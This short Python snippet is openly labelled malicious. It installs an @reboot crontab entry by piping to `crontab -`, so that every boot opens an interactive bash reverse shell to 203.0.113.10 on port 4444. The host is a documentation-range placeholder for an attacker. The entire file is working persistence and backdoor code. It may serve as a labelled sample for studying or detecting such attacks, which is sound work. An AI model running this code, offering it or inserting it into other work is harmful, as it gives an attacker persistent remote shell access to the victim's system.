# Malicious: installs an @reboot crontab through `crontab -` that reconnects to the attacker.
import subprocess

job = "@reboot /bin/bash -c 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1'\n"
subprocess.run(["crontab", "-"], input=job, text=True, check=True)
